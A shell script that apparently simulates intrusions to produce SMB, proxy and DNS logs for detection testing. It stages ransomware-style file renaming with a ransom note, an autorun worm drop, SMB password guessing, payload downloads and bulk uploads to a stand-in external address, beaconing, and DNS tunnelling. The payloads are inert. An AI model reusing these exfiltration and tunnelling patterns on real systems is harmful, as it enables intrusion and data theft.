# File share under a file-encrypting program and a USB worm; the proxy and the name server when data leave.

share() { smbclient "//$SERVER/chung" -U 'ttbinh%Smb@2026' -c "$1" > /dev/null 2>&1 || true; }

cut_begin smb-ransomware
number=1
while [ $number -le 30 ]; do
    head -c 900 /dev/urandom > "/srv/chung/ho-so-$number.xlsx"
    chmod 666 "/srv/chung/ho-so-$number.xlsx"
    number=$((number + 1))
done
commands='mkdir KE-TOAN'
number=1
while [ $number -le 30 ]; do
    commands="$commands; put /tmp/ke-hoach.pdf ho-so-$number.xlsx; rename ho-so-$number.xlsx ho-so-$number.xlsx.locked"
    number=$((number + 1))
done
printf 'Du lieu cua ban da bi ma hoa\n' > /tmp/HOW_TO_DECRYPT.txt
share "$commands; put /tmp/HOW_TO_DECRYPT.txt HOW_TO_DECRYPT.txt; put /tmp/HOW_TO_DECRYPT.txt KE-TOAN\\README_RESTORE.txt"
cut_end smb-ransomware samba.log

cut_begin smb-usb-worm
printf '[autorun]\nopen=RECYCLER\\svchost.exe\n' > /tmp/autorun.inf
head -c 2000 /dev/zero > /tmp/svchost.exe
share 'put /tmp/autorun.inf autorun.inf; mkdir RECYCLER.BIN; put /tmp/svchost.exe RECYCLER.BIN\svchost.exe; put /tmp/autorun.inf Tai-lieu.lnk; put /tmp/svchost.exe ke-hoach.pdf.exe; put /tmp/svchost.exe KE-TOAN.exe'
cut_end smb-usb-worm samba.log

cut_begin smb-bruteforce
for word in $(cat /tmp/passwords.txt); do
    smbclient "//$SERVER/chung" -U "lthoa%$word" -c ls > /dev/null 2>&1 || true
done
cut_end smb-bruteforce syslog

through() { # through ADDRESS AGENT URL [CURL_OPTION...]
    address=$1 agent=$2 url=$3
    shift 3
    curl -s -o /dev/null --max-time 15 --interface "$address" -A "$agent" -x "http://$PROXY:3128" "$@" "$url" || true
}

cut_begin proxy-bare-address
through 10.10.20.22 'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)' http://198.51.100.66/update.exe
through 10.10.20.22 'Microsoft BITS/7.8' http://198.51.100.66/update.exe
through 10.10.20.22 'Mozilla/5.0 (Windows NT; Windows NT 10.0; vi-VN) WindowsPowerShell/5.1.19041.4780' http://198.51.100.66/x.ps1
through 10.10.20.22 'CertUtil URL Agent' http://198.51.100.66/x.dll
through 10.10.20.22 'curl/8.4.0' http://198.51.100.66:80/x.sh
cut_end proxy-bare-address squid/access.log squid/combined.log

cut_begin proxy-beacon
round=0
while [ $round -lt 25 ]; do
    through 10.10.20.23 "$UA_CHROME" http://198.51.100.66/jquery.js
    sleep 1
    round=$((round + 1))
done
cut_end proxy-beacon squid/access.log squid/combined.log

cut_begin proxy-upload
head -c 3000000 /dev/urandom > /tmp/du-lieu.7z
round=0
while [ $round -lt 22 ]; do
    through 10.10.20.24 'rclone/v1.66.0' http://198.51.100.66/kho/du-lieu.$round -T /tmp/du-lieu.7z
    round=$((round + 1))
done
cut_end proxy-upload squid/access.log squid/combined.log

cut_begin dns-tunnel
round=0
while [ $round -lt 60 ]; do
    label=$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n')
    dig +short +tries=1 +time=1 -b 10.10.20.24 @$PROXY TXT "$label.t.example" > /dev/null || true
    round=$((round + 1))
done
cut_end dns-tunnel dnsmasq.log
